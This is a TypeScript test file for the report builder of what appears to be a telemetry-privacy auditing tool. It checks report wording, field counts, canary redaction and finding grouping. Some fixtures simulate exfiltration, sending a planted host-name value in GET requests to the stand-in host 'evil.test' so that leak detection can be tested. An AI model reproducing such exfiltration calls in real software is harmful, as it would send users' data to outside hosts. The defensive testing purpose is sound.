import { expect } from 'chai';
import type { ResultFile } from '../../src/judge/result.generated.js';
import { loadRun } from '../../src/report/load-run.js';
import { buildReport } from '../../src/report/model/build-report.js';
import { groupFindings } from '../../src/report/model/group-findings.js';
import type { DataItem, Report } from '../../src/report/report.js';
import { type TraceBuilder, trace } from '../judge/judging.js';
import { runs } from './runs.js';

describe('What a report says', () => {
  const made = runs();
  after(() => made.remove());

  const reportOf = async (built: TraceBuilder): Promise<Report> =>
    buildReport(await loadRun(await made.judge({ 'one.ndjson': built })));
  const itemOf = ({ dataItems }: Report, name: string): DataItem | undefined =>
    dataItems.find(({ item }) => item === name);

  it('names the states that rule a payload out beside those that permit it', async () => {
    const report = await reportOf(trace().beats().install().beats().ends());
    expect(itemOf(report, 'survey#/answer')?.permitted).to.equal(
      'always, but not while tier is paid, but not while managed is true',
    );
    expect(itemOf(report, 'pulse#/number')?.permitted).to.equal('consent is granted');
  });

  it('counts a field as seen, though nobody knows who sent it', async () => {
    const report = await reportOf(
      trace()
        .beats()
        .as('i-1')
        .install()
        .as('i-2')
        .install()
        .sends('survey', { installation: null })
        .sends('survey')
        .beats()
        .ends(),
    );
    const { seen, seenIn } = itemOf(report, 'survey#/answer') ?? {};
    expect([seen, seenIn]).to.deep.equal([2, ['telemetry-on']]);
  });

  it('calls a dead capture no breach', async () => {
    const report = await reportOf(trace({ heartbeats: 'both-ends' }).install().beats().ends());
    expect(report.determination.sentence).to.match(/^Not decided: no breach was observed/);
  });

  it('leaves no part of a planted value where a long text is cut', async () => {
    const value = 'zephyr-4711-of-a-host-with-a-long-name';
    for (const before of [90, 105, 115, 460, 475, 490]) {
      const long = 'x'.repeat(before);
      const report = await reportOf(
        trace({ canaries: [{ name: 'hostName', value, permitted: [] }] })
          .beats()
          .install()
          .sends('odd', { json: { [`${long}${value}`]: 1 } })
          .transmits({ method: 'GET', url: `https://evil.test/${long}${value}` })
          .beats()
          .ends(),
      );
      const samples = report.findings.map(({ sample }) => sample);
      expect(JSON.stringify(samples), `after ${before}`).not.to.contain('zephyr');
    }
  });

  it('tells apart no more than a hundred causes of a rule, however many there are', () => {
    const findings = Array.from({ length: 100_000 }, (_, number): ResultFile['findings'][number] => ({
      id: `f-${number + 1}`,
      rule: 'route/undocumented',
      kind: 'excess',
      clause: 'scope.transmit',
      scenario: null,
      at: '2026-01-01T00:00:00.000Z',
      message: `GET https://evil.test/${number} matches no route`,
      evidence: [{ trace: 'traces/one.ndjson', line: number + 1 }],
    }));
    const groups = groupFindings(findings);
    expect(groups.length).to.equal(101);
    expect(groups.reduce((sum, group) => sum + group.findings.length, 0)).to.equal(100_000);
  });
});
